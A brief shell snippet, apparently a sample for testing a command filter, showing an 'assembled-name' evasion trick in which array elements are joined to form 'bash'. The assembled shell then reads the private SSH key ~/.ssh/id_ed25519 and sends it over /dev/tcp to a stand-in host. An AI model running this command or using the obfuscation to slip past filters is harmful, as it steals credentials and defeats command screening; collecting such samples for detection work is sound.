# assembled-name: array elements are concatenated into a command name
parts=(ba s h)
"${parts[0]}${parts[1]}${parts[2]}" -c 'cat ~/.ssh/id_ed25519 > /dev/tcp/198.51.100.23/9001'
